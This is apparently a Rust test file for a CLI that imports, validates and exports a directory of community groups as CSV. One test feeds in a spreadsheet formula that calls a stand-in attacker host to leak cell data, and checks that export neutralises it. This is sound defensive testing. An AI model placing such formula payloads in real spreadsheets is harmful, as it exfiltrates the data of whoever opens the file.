//! `caseline directory`: a spreadsheet of groups loaded all or nothing, every problem
//! named by line and column with exit 1 and nothing written; and the list filtered by
//! kind, language and meeting day, as a table, JSON or CSV that loads back.

use std::path::{Path, PathBuf};

use crate::common::{self, Run, cli};

const HEADER: &str = "name,kind,communities,services,languages,meets,contact_person,phone,email,address,reporting_centre,notes";

const GOOD: &str = "\
name,kind,communities,services,languages,meets,contact_person,phone,email,address,reporting_centre,notes
Kingston Chinese Community Centre,Community group,Chinese; older people,advice; classes,Cantonese; English,Sun 14:00-17:00,Mei Ling Chan,020 8546 0001,info@kccc.example.org,\"1 Fife Road, Kingston KT1 1SZ\",yes,\"Run by volunteers; \"\"Sunday only\"\"\"
Surbiton Polish Saturday School,community_group,Polish,classes,polish,Sat 10:00-13:00,,,,,no,
Tolworth Mosque,Faith group,Muslim,food bank,Arabic; Urdu,Fri 14:30-16:30; Sun 10:00-12:00,,,,,,
";

fn store() -> (tempfile::TempDir, PathBuf) {
    let tmp = common::temp("cli-directory");
    let dir = tmp.path().join("data");
    common::init_store(&dir).close().unwrap();
    (tmp, dir)
}

fn import(dir: &Path, name: &str, bytes: &[u8]) -> Run {
    let file = dir.parent().unwrap().join(name);
    std::fs::write(&file, bytes).unwrap();
    cli(dir, &["directory", "import", file.to_str().unwrap()])
}

fn listed(dir: &Path, args: &[&str]) -> Vec<String> {
    let mut all = vec!["directory", "list", "--format", "json"];
    all.extend_from_slice(args);
    let r = cli(dir, &all).expect(0);
    let rows: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    rows.as_array()
        .unwrap()
        .iter()
        .map(|r| r["name"].as_str().unwrap().to_string())
        .collect()
}

/// Imports `csv`, which must fail with exit 1 naming each of `wanted` (line and column
/// and what is wrong) and writing nothing.
#[track_caller]
fn refused(csv: &[u8], wanted: &[&str]) {
    let (_tmp, dir) = store();
    let r = import(&dir, "groups.csv", csv);
    assert_eq!(r.code, Some(1), "{}", r.stderr);
    assert!(r.stderr.contains("no group was added"), "{}", r.stderr);
    for w in wanted {
        assert!(r.stderr.contains(w), "expected `{w}` in:\n{}", r.stderr);
    }
    assert!(listed(&dir, &[]).is_empty(), "nothing written");
}

#[test]
fn a_good_spreadsheet_loads_whole_and_filters() {
    let (_tmp, dir) = store();
    let r = import(&dir, "groups.csv", GOOD.as_bytes()).expect(0);
    assert!(r.stdout.contains("3 organisation(s) added"), "{}", r.stdout);
    assert_eq!(
        listed(&dir, &["--meets", "sun", "--language", "cantonese"]),
        ["Kingston Chinese Community Centre"]
    );
    assert_eq!(listed(&dir, &["--meets", "Sunday"]).len(), 2);
    assert_eq!(listed(&dir, &["--kind", "faith"]), ["Tolworth Mosque"]);
    let table = cli(&dir, &["directory", "list", "--meets", "fri"]).expect(0);
    assert!(
        table.stdout.contains("Fri 14:30–16:30, Sun 10:00–12:00"),
        "{}",
        table.stdout
    );
    // The CSV it writes loads into another store as the same directory.
    let csv = cli(&dir, &["directory", "list", "--format", "csv"]).expect(0);
    assert!(
        csv.stdout.starts_with(&format!("\u{FEFF}{HEADER}\r\n")),
        "{}",
        csv.stdout
    );
    let (_other_tmp, other) = store();
    import(&other, "again.csv", csv.stdout.as_bytes()).expect(0);
    let json = |d: &Path| {
        let r = cli(d, &["directory", "list", "--format", "json"]).expect(0);
        let mut v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
        for row in v.as_array_mut().unwrap() {
            row.as_object_mut().unwrap().remove("id");
        }
        v
    };
    assert_eq!(json(&dir), json(&other));
    // Loaded twice, the same names are refused as already there.
    let r = import(&dir, "groups.csv", GOOD.as_bytes()).expect(1);
    assert!(
        r.stderr
            .contains("line 2, column 1 (name): is already in the directory"),
        "{}",
        r.stderr
    );
    assert_eq!(listed(&dir, &[]).len(), 3);
}

#[test]
fn a_bad_header_is_named_by_column() {
    refused(
        b"name,kind,colour\nA group,Community group,red\n",
        &["line 1, column 3: is not a column the directory takes"],
    );
    refused(
        b"name,languages\nA group,English\n",
        &["line 1: the header has no `kind` column"],
    );
    refused(b"", &["the file is empty"]);
}

#[test]
fn unknown_codes_bad_times_and_emails_are_each_named() {
    let csv = format!(
        "{HEADER}\n\
         Group One,Space agency,,,English,,,,,,,\n\
         Group Two,Community group,,,English; Klingon,,,,,,,\n\
         Group Three,Community group,,,,Sun 14:00,,,,,,\n\
         Group Four,Community group,,,,,,,not-an-email,,,\n\
         ,Community group,,,,,,,,,,\n\
         Group Six,Community group,,,,Sat 10:00-13:00; Sun 17:00-14:00,,,,,maybe,\n"
    );
    refused(
        csv.as_bytes(),
        &[
            "line 2, column 2 (kind): is not a kind in the agency kind list",
            "line 3, column 5 (languages): language 2 is not in the language list",
            "line 4, column 6 (meets): needs a time range after the day",
            "line 5, column 9 (email): is not an email address",
            "line 6, column 1 (name): must not be empty",
            "line 7, column 6 (meets): meeting time 2: the range must end after it starts",
            "line 7, column 11 (reporting_centre): is yes or no",
        ],
    );
}

#[test]
fn a_duplicate_in_the_file_and_a_short_row_are_named() {
    let csv = format!(
        "{HEADER}\n\
         Kingston Mosque,Faith group,,,,,,,,,,\n\
         Multiline notes group,Community group,,,,,,,,,,\"one\ntwo\"\n\
         KINGSTON  mosque,Faith group,,,,,,,,,,\n\
         Short row,Community group\n"
    );
    refused(
        csv.as_bytes(),
        &[
            "line 5, column 1 (name): the same name as line 2",
            "line 6: has 2 fields where the header has 12",
        ],
    );
}

#[test]
fn a_file_that_is_not_utf8_is_refused_by_line() {
    let mut bytes = format!("{HEADER}\nGood group,Community group,,,,,,,,,,\nBad ").into_bytes();
    bytes.extend_from_slice(&[0xff, 0xfe]);
    bytes.extend_from_slice(b" group,Community group,,,,,,,,,,\n");
    refused(&bytes, &["line 3: the file is not UTF-8 text"]);
}

#[test]
fn a_day_that_is_not_one_is_a_usage_error() {
    let (_tmp, dir) = store();
    let r = cli(&dir, &["directory", "list", "--meets", "someday"]);
    assert_eq!(r.code, Some(2), "{}", r.stderr);
    assert!(r.stderr.contains("--meets takes a day"), "{}", r.stderr);
}

#[test]
fn a_spreadsheet_saved_by_excel_loads() {
    // "CSV UTF-8" from Excel: a byte order mark, CRLF line ends, a blank last row.
    let (_tmp, dir) = store();
    let csv = "\u{FEFF}Name,Kind,Languages,Meets\r\nHook Tamil Elders,Community group,Tamil,Sun 10:00-12:00\r\n,,,\r\n";
    let r = import(&dir, "excel.csv", csv.as_bytes()).expect(0);
    assert!(r.stdout.contains("1 organisation(s) added"), "{}", r.stdout);
    assert_eq!(
        listed(&dir, &["--language", "tamil", "--meets", "sun"]),
        ["Hook Tamil Elders"]
    );
}

#[test]
fn a_formula_a_multi_line_note_and_a_bengali_name_survive_export_and_import() {
    let (_tmp, dir) = store();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    let bengali = "সিলেটি মহিলা সমিতি";
    let note = "Meets upstairs.\nRing the bell; ask for Rahima.";
    let sheet = format!(
        "{HEADER}\n\
         \"{}\",Community group,,,,,,+44 20 7946 0000,,,no,\n\
         {bengali},Community group,,,Bengali,,,,,,no,\"{note}\"\n",
        formula.replace('"', "\"\"")
    );
    import(&dir, "groups.csv", sheet.as_bytes()).expect(0);
    let csv = cli(&dir, &["directory", "list", "--format", "csv"]).expect(0);
    assert!(
        csv.stdout.starts_with('\u{FEFF}'),
        "a byte-order mark first"
    );
    // The formula is text to a spreadsheet: its cell starts with `'=`, as does the
    // phone number's with `'+`.
    assert!(
        csv.stdout
            .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","),
        "{}",
        csv.stdout
    );
    assert!(csv.stdout.contains(",'+44 20 7946 0000,"), "{}", csv.stdout);
    assert!(
        !csv.stdout.contains('⏎'),
        "line breaks are kept: {}",
        csv.stdout
    );
    let (_other_tmp, other) = store();
    import(&other, "again.csv", csv.stdout.as_bytes()).expect(0);
    let r = cli(&other, &["directory", "list", "--format", "json"]).expect(0);
    let rows: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    let by_name = |name: &str| {
        rows.as_array()
            .unwrap()
            .iter()
            .find(|r| r["name"] == name)
            .unwrap_or_else(|| panic!("{name} not loaded back: {rows}"))
            .clone()
    };
    assert_eq!(by_name(formula)["phone"], "+44 20 7946 0000");
    assert_eq!(by_name(bengali)["notes"], note);
}
